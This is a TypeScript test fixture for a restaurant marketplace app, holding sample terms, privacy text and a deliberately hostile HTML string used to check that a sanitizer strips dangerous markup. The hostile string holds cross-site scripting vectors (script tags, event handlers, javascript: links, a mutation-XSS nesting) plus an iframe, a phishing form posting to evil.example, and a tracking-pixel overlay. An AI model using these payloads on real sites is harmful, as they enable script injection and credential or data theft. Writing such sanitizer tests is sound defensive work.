const terms = `<h2>Terms and conditions</h2>
<p>These are sample terms of a marketplace that does not exist.</p>
<h3>1. Orders</h3>
<p>A restaurant accepts or declines each order. <strong>An accepted order is prepared</strong> within the time it has promised.</p>
<h3>2. Payouts</h3>
<ul><li>A cycle runs from Monday to Sunday.</li><li>It is paid by the following Thursday.</li></ul>
<table><thead><tr><th>Fee</th><th>Share</th></tr></thead><tbody><tr><td>Commission</td><td>18 %</td></tr></tbody></table>
<p>Questions: <a href="https://marketplace.example/help">help centre</a>.</p>`;

const privacy = `<h2>Privacy policy</h2>
<p>We keep what is needed to run your restaurant, and <em>nothing more</em>.</p>
<ol><li>Your contact details.</li><li>Your verification documents.</li><li>Your orders.</li></ol>
<blockquote>नमूना पाठ: यह केवल उदाहरण है।</blockquote>`;

/** Markup as a compromised admin account could write it. It must not run or load anything. */
const hostile = `<h2>Open source libraries</h2>
<p>This product uses open source software. <a href="https://licences.example/list">All licences</a>.</p>
<script>window.__legalScriptRan = true</script>
<img src="x" onerror="window.__legalScriptRan = true" alt="picture">
<svg onload="window.__legalScriptRan = true"><a xlink:href="javascript:window.__legalScriptRan = true"><text y="20">Press</text></a></svg>
<a href="javascript:window.__legalScriptRan = true">Read more</a>
<a href="https://evil.example/" target="_blank" onclick="window.__legalScriptRan = true">Partner</a>
<iframe src="https://evil.example/frame"></iframe>
<form action="https://evil.example/collect"><input name="phone" placeholder="Phone"><button>Confirm your account</button></form>
<style>body { display: none }</style><link rel="stylesheet" href="https://evil.example/style.css">
<div style="position:fixed;inset:0;background:url(https://evil.example/pixel)">Cover</div>
<math><mtext><table><mglyph><style><img src=x onerror="window.__legalScriptRan = true"></style></mglyph></table></mtext></math>
<p id="root" class="vp-root">The end.</p>`;

/** The texts by their names in the API. The last one tests that hostile markup is removed. */
export const texts = {
  terms_and_conditions: terms,
  privacy_policy: privacy,
  open_source_library: hostile,
} as const;
